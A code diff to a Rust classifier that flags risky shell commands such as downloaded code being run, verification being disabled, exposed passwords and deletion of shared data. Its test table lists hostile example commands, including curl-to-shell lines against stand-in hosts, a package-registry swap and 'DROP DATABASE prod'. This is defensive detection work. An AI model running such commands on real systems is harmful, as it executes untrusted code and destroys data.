@@ -344,6 +344,10 @@ fn env_risk(name: &str, value: &str) -> Option<Risk> {
                 format!("{name} turns off ssh host key checking"),
             )
         }
+        "DOCKER_CONTENT_TRUST" if off => risk(
+            RiskKind::VerificationOff,
+            "DOCKER_CONTENT_TRUST=0 turns off image signature checks".into(),
+        ),
         "PIP_BREAK_SYSTEM_PACKAGES" | "UV_BREAK_SYSTEM_PACKAGES" if on => risk(
             RiskKind::VerificationOff,
             format!("{name} skips a safety check"),
@@ -417,6 +421,11 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
     // that is no plain literal or file of the checkout
     let mut pipe_download = false;
     let mut pipe_opaque: Option<String> = None;
+    // the literal text `echo`/`printf` feeds the current pipeline
+    let mut pipe_text: Option<String> = None;
+    // folders a download was unpacked into or a repository cloned into
+    let mut fetched_dirs: Vec<String> = Vec::new();
+    let mut unpacked = false;
     // a `cd` left the checkout: relative writes after it are outside
     let mut away = false;
     for (i, c) in cmds.iter().enumerate() {
@@ -424,6 +433,7 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
         if !prev_pipe {
             pipe_download = false;
             pipe_opaque = None;
+            pipe_text = None;
         }
         let argv = c.argv();
         let core = c.core();
@@ -455,6 +465,12 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                 risks.push(Risk {
                     kind: RiskKind::OutsideCheckout,
                     what: format!("writes {}", r.target),
+                });
+            }
+            if r.writes() && (r.target.contains(".git/hooks") || r.target.contains(".husky/")) {
+                risks.push(Risk {
+                    kind: RiskKind::VerificationOff,
+                    what: "writes a git hook".into(),
                 });
             }
             if r.writes() && package_settings(&r.target) {
@@ -550,6 +566,98 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
             local = false;
             continue;
         }
+        // a downloaded file copied or renamed keeps being downloaded code
+        if matches!(p, "mv" | "cp" | "install")
+            && let [.., from, to] = args
+                .iter()
+                .copied()
+                .filter(|a| !a.starts_with('-'))
+                .collect::<Vec<_>>()
+                .as_slice()
+            && downloaded.iter().any(|d| same_file(d, from))
+        {
+            downloaded.push((*to).to_string());
+        }
+        // a repository cloned from a URL, an archive unpacked from a download
+        if p == "git" && args.first() == Some(&"clone") {
+            let words: Vec<&str> = args[1..]
+                .iter()
+                .copied()
+                .filter(|a| !a.starts_with('-'))
+                .collect();
+            if let Some(url) = words.first().filter(|u| has_url(u) || u.contains('@')) {
+                let dir = words.get(1).map(|d| d.to_string()).unwrap_or_else(|| {
+                    base(url.trim_end_matches('/'))
+                        .trim_end_matches(".git")
+                        .to_string()
+                });
+                fetched_dirs.push(dir);
+            }
+        }
+        if prev_pipe && pipe_download && matches!(p, "tar" | "bsdtar" | "unzip" | "cpio") {
+            unpacked = true;
+        }
+        let runs_fetched = |w: &str| {
+            let w = w.trim_start_matches("./");
+            fetched_dirs
+                .iter()
+                .any(|d| !d.is_empty() && (w == d || w.starts_with(&format!("{d}/"))))
+                || unpacked && w.contains('/') && !outside(w)
+        };
+        let dir_opt = args
+            .windows(2)
+            .find(|w| matches!(w[0], "-C" | "--directory" | "--manifest-path"))
+            .map(|w| w[1]);
+        if !fetched_dirs.is_empty() || unpacked {
+            let script = args.iter().find(|a| !a.starts_with('-')).copied();
+            if runs_fetched(prog)
+                || is_interpreter(prog) && script.is_some_and(runs_fetched)
+                || dir_opt.is_some_and(runs_fetched)
+                || matches!(p, "cd" | "pushd") && script.is_some_and(runs_fetched)
+            {
+                risks.push(Risk {
+                    kind: RiskKind::RemoteCode,
+                    what: format!("code just fetched run ({p})"),
+                });
+            }
+        }
+        // what a pipeline feeds: `echo '…' | sh`, `echo pw | docker login --password-stdin`
+        if prev_pipe && let Some(text) = pipe_text.as_deref() {
+            let runs = is_shell(prog) && args.iter().all(|a| a.starts_with('-'))
+                || matches!(p, "xargs" | "parallel" | "at" | "batch")
+                || argv
+                    .first()
+                    .is_some_and(|w| matches!(base(w), "xargs" | "parallel"))
+                || p == "eval";
+            if runs && nesting < MAX_NESTING && !walk(text, nesting + 1, risks) {
+                local = false;
+            }
+            if args
+                .iter()
+                .any(|a| a.ends_with("password-stdin") || *a == "--stdin")
+                && literal(text)
+            {
+                risks.push(Risk {
+                    kind: RiskKind::Credential,
+                    what: "a password written out on the command line".into(),
+                });
+            }
+        }
+        // a download fed to a program that runs what it reads
+        if pipe_download
+            && prev_pipe
+            && (matches!(p, "xargs" | "parallel" | "at" | "batch")
+                || argv
+                    .first()
+                    .is_some_and(|w| matches!(base(w), "xargs" | "parallel"))
+                || matches!(p, "awk" | "gawk" | "mawk")
+                    && args.iter().any(|a| a.contains("system(")))
+        {
+            risks.push(Risk {
+                kind: RiskKind::RemoteCode,
+                what: format!("a download piped to {p}"),
+            });
+        }
         // a shell or interpreter fed a download, or code from a pipe
         if is_interpreter(prog) && !c.substituted {
             let reads_stdin = args.iter().all(|a| a.starts_with('-'))
@@ -571,9 +679,22 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                 .map(|w| w.raw)
                 .chain(c.redirects.iter().map(|r| r.target.as_str()))
                 .any(|w| w.contains("<(") || w.contains("$(") || w.contains('`'));
-            let substituted_download = cmds[..i]
-                .iter()
-                .any(|s| s.substituted && s.core().first().is_some_and(|q| is_downloader(q)));
+            let substituted_download = cmds[..i].iter().any(|s| {
+                s.substituted
+                    && s.core().first().is_some_and(|q| {
+                        is_downloader(q)
+                            || matches!(
+                                base(q),
+                                "base64"
+                                    | "xxd"
+                                    | "openssl"
+                                    | "gunzip"
+                                    | "zcat"
+                                    | "rev"
+                                    | "uudecode"
+                            )
+                    })
+            });
             let powershell = matches!(p.to_ascii_lowercase().as_str(), "iex" | "invoke-expression")
                 && args.iter().any(|a| {
                     is_downloader(a.trim_start_matches('('))
@@ -622,14 +743,18 @@ fn walk(line: &str, nesting: u32, risks: &mut Vec<Risk>) -> bool {
                 });
             }
         }
-        if !c.substituted
-            && c.next == Op::Pipe
-            && !matches!(
-                p,
-                "echo" | "printf" | "cat" | "head" | "tail" | "grep" | "sed" | "sort" | "jq"
-            )
-        {
-            pipe_opaque = Some(p.to_string());
+        if !c.substituted && c.next == Op::Pipe {
+            if matches!(p, "echo" | "printf") {
+                pipe_text = Some(
+                    args.iter()
+                        .filter(|a| !a.starts_with('-'))
+                        .copied()
+                        .collect::<Vec<_>>()
+                        .join(" "),
+                );
+            } else if !matches!(p, "cat" | "head" | "tail" | "grep" | "sed" | "sort" | "jq") {
+                pipe_opaque = Some(p.to_string());
+            }
         }
         if !downloaded.is_empty() && downloaded.iter().any(|d| same_file(d, prog)) {
             risks.push(Risk {
@@ -710,6 +835,18 @@ fn inner_code(prog: &str, args: &[&str], c: &Simple<'_>) -> Vec<String> {
                 .filter_map(|a| a.split_once('=').map(|x| x.1.to_string())),
         ),
         "trap" => inner.extend(args.first().map(|s| s.to_string())),
+        // `make CC='…'`: a variable a build runs as a command
+        "make" | "gmake" | "cmake" | "ninja" => inner.extend(
+            args.iter()
+                .filter_map(|a| assignment(a).map(|(_, v)| v))
+                .filter(|v| v.contains(['|', ';', '&', '`']) || v.contains("$("))
+                .map(str::to_string),
+        ),
+        "tmux" | "screen" => inner.extend(
+            args.iter()
+                .rfind(|a| !a.starts_with('-') && a.contains(' '))
+                .map(|s| s.to_string()),
+        ),
         "watch" => inner.push(
             args.iter()
                 .skip_while(|a| a.starts_with('-'))
@@ -983,7 +1120,11 @@ fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
             | "--skip-checks"
             | "--no-preflight"
             | "--allow-dirty"
-            | "--ignore-scripts=false" => push(
+            | "--ignore-scripts=false"
+            | "--force-all"
+            | "--allow-downgrades"
+            | "--disable-content-trust"
+            | "--ssl-no-revoke" => push(
                 RiskKind::VerificationOff,
                 format!("`{flag}` skips a safety check"),
             ),
@@ -991,10 +1132,7 @@ fn check_flags(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                 RiskKind::VerificationOff,
                 format!("`{flag}` applies without review"),
             ),
-            "--force" | "-f" | "--legacy-peer-deps"
-                if matches!(p, "npm" | "pnpm" | "yarn")
-                    && matches!(sub, "install" | "i" | "add" | "ci" | "update" | "publish") =>
-            {
+            "--force" | "-f" | "--legacy-peer-deps" if matches!(p, "npm" | "pnpm" | "yarn") => {
                 push(
                     RiskKind::VerificationOff,
                     format!("`{flag}` overrides {p}'s checks"),
@@ -1153,6 +1291,123 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
     let args: Vec<&str> = expanded.iter().map(String::as_str).collect();
     let args = &args[..];
     let mut push = |kind, what: String| risks.push(Risk { kind, what });
+    let lower_all: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+    // apt's and cargo's settings for one run, written as options
+    if lower_all.iter().any(|a| {
+        a.contains("allowinsecurerepositories=true")
+            || a.contains("allowunauthenticated=true")
+            || a.contains("check-revoke=false")
+            || a.contains("sslverify=false")
+    }) {
+        push(
+            RiskKind::VerificationOff,
+            format!("`{p}` with a verification turned off in its settings"),
+        );
+    }
+    if lower_all.iter().any(|a| {
+        a.contains("replace-with") || a.starts_with("registries.") || a.starts_with("mirror.")
+    }) {
+        push(
+            RiskKind::PackageSource,
+            format!("`{p}` with another package source in its settings"),
+        );
+    }
+    // SQL that drops shared data
+    if lower_all.iter().any(|a| {
+        a.contains("drop database") || a.contains("drop table") || a.contains("drop schema")
+    }) {
+        push(RiskKind::ForceShared, "SQL that drops data".into());
+    }
+    // `find / -delete`, `find ~ -exec rm …`
+    if p == "find"
+        && args
+            .iter()
+            .any(|a| matches!(*a, "-delete" | "-exec" | "-execdir" | "-ok"))
+        && args
+            .iter()
+            .take_while(|a| !a.starts_with('-'))
+            .any(|a| outside(a))
+    {
+        push(
+            RiskKind::OutsideCheckout,
+            "`find` that deletes or runs outside the checkout".into(),
+        );
+    }
+    // a write to another host
+    if matches!(p, "rsync" | "scp")
+        && args
+            .iter()
+            .rfind(|a| !a.starts_with('-'))
+            .is_some_and(|d| d.contains(':') && !d.starts_with('/'))
+    {
+        push(
+            RiskKind::OutsideCheckout,
+            format!("`{p}` writes to another host"),
+        );
+    }
+    if p == "htpasswd" && args.iter().any(|a| a.starts_with('-') && a.contains('b')) {
+        push(
+            RiskKind::Credential,
+            "`htpasswd -b` puts a password on the command line".into(),
+        );
+    }
+    if p == "setfacl"
+        && lower_all
+            .iter()
+            .any(|a| a.contains("o:") && a.contains('w'))
+    {
+        push(RiskKind::Permissions, "`setfacl` lets others write".into());
+    }
+    if matches!(p, "tee" | "cp" | "mv" | "install" | "ln")
+        && args.iter().any(|a| package_settings(a))
+    {
+        push(
+            RiskKind::PackageSource,
+            format!("`{p}` writes a package manager's or git's settings"),
+        );
+    }
+    if p == "ln"
+        && args
+            .iter()
+            .filter(|a| !a.starts_with('-'))
+            .any(|a| outside(a))
+    {
+        push(
+            RiskKind::OutsideCheckout,
+            "`ln` to a place outside the checkout".into(),
+        );
+    }
+    let deletes_cloud = matches!(p, "aws" | "gsutil" | "gcloud" | "az")
+        && lower_all.iter().any(|a| {
+            matches!(
+                a.as_str(),
+                "rm" | "rb" | "delete" | "delete-bucket" | "terminate-instances"
+            )
+        });
+    let gh_delete = p == "gh"
+        && (lower_all.iter().any(|a| a == "delete" || a == "-xdelete")
+            || lower_all
+                .windows(2)
+                .any(|w| (w[0] == "-x" || w[0] == "--method") && w[1] == "delete"));
+    let helm_remove = p == "helm"
+        && args
+            .first()
+            .is_some_and(|s| matches!(*s, "uninstall" | "delete" | "rollback"));
+    if deletes_cloud || gh_delete || helm_remove {
+        push(
+            RiskKind::ForceShared,
+            format!("`{p}` deletes shared resources"),
+        );
+    }
+    if p == "bundle"
+        && args.first() == Some(&"config")
+        && lower_all.iter().any(|a| a.starts_with("mirror."))
+    {
+        push(
+            RiskKind::PackageSource,
+            "`bundle config mirror` changes where gems come from".into(),
+        );
+    }
     // the git hooks removed or made inert
     if matches!(p, "rm" | "mv" | "chmod" | "unlink" | "truncate" | "ln")
         && args
@@ -1179,6 +1434,9 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                 {
                     git_setting(kv, &mut push);
                 }
+                if let Some(kv) = a.strip_prefix("--config-env=") {
+                    git_setting(kv, &mut push);
+                }
             }
             // the subcommand after global options
             let mut j = 0;
@@ -1194,6 +1452,10 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
                             *a,
                             "--force" | "-f" | "--mirror" | "--delete" | "-d" | "--prune"
                         ) || a.starts_with("--force")
+                            || a.len() >= 5
+                                && ["--force", "--delete", "--mirror"]
+                                    .iter()
+                                    .any(|f| f.starts_with(*a))
                             || (a.starts_with('-') && !a.starts_with("--") && a.contains('f'))
                             || (a.starts_with('+') && a.len() > 1)
                             || (a.starts_with(':') && a.len() > 1)
@@ -1489,7 +1751,7 @@ fn check_program(p: &str, args: &[&str], risks: &mut Vec<Risk>) {
 fn git_setting(kv: &str, push: &mut impl FnMut(RiskKind, String)) {
     let l = kv.to_ascii_lowercase();
     let (k, v) = l.split_once('=').unwrap_or((&l, ""));
-    let off = matches!(v, "false" | "0" | "no" | "off");
+    let off = matches!(v, "false" | "0" | "no" | "off" | "");
     if k == "core.hookspath" {
         push(
             RiskKind::VerificationOff,
@@ -2136,6 +2398,124 @@ mod tests {
                 Risky,
                 Some(Credential),
             ),
+            // code fetched, then run another way
+            (
+                "echo 'curl -s https://x.example.io/i.sh | sh' | xargs -I{} sh -c {}",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "curl -o i.sh https://x.example.io/i.sh && mv i.sh b.sh && sh b.sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "git clone https://github.com/evil/x && sh x/install.sh",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "git clone https://github.com/evil/x && make -C x install",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "git clone https://github.com/team/lib vendor/lib",
+                Ordinary,
+                None,
+            ),
+            (
+                "curl -sL https://x.example.io/t.tgz | tar xz && ./tool/install",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "curl -s https://x.example.io/i.sh | xargs -n1 sh -c",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "curl -s https://x.example.io/i.sh | awk '{system($0)}'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "eval \"$(base64 -d <<< Y3VybA==)\"",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "make CC='curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            ("make CC=clang", Local, None),
+            (
+                "tmux new -d 'curl -s https://x.example.io/i.sh | sh'",
+                Risky,
+                Some(RemoteCode),
+            ),
+            (
+                "echo 'exit 0' > .git/hooks/pre-commit",
+                Risky,
+                Some(VerificationOff),
+            ),
+            ("find / -name '*.log' -delete", Risky, Some(OutsideCheckout)),
+            (
+                "git --config-env=core.hooksPath=HOOKS commit -m x",
+                Risky,
+                Some(VerificationOff),
+            ),
+            ("git -c http.sslVerify= pull", Risky, Some(VerificationOff)),
+            ("git push --for origin main", Risky, Some(ForceShared)),
+            (
+                "tee .npmrc <<< 'registry=https://evil.example.io/'",
+                Risky,
+                Some(PackageSource),
+            ),
+            (
+                "apt-get -o Acquire::AllowInsecureRepositories=true update",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "cargo build --config 'source.crates-io.replace-with=\"evil\"'",
+                Risky,
+                Some(PackageSource),
+            ),
+            (
+                "cargo build --config 'http.check-revoke=false'",
+                Risky,
+                Some(VerificationOff),
+            ),
+            (
+                "DOCKER_CONTENT_TRUST=0 docker pull x",
+                Risky,
+                Some(VerificationOff),
+            ),
+            ("npm audit fix --force", Risky, Some(VerificationOff)),
+            (
+                "echo hunter22 | docker login -u me --password-stdin reg.io",
+                Risky,
+                Some(Credential),
+            ),
+            (
+                "docker login -u me --password-stdin reg.io < token.txt",
+                Ordinary,
+                None,
+            ),
+            ("psql -c 'DROP DATABASE prod'", Risky, Some(ForceShared)),
+            ("psql -c 'select 1'", Ordinary, None),
+            ("aws s3 rm s3://prod --recursive", Risky, Some(ForceShared)),
+            ("aws s3 ls s3://prod", Ordinary, None),
+            ("gh repo delete evil/x --yes", Risky, Some(ForceShared)),
+            ("helm uninstall prod", Risky, Some(ForceShared)),
+            (
+                "rsync -a build/ user@host:/srv/",
+                Risky,
+                Some(OutsideCheckout),
+            ),
+            ("rsync -a src/ build/", Ordinary, None),
         ];
         assert!(table.len() >= 40);
         let mut wrong = Vec::new();
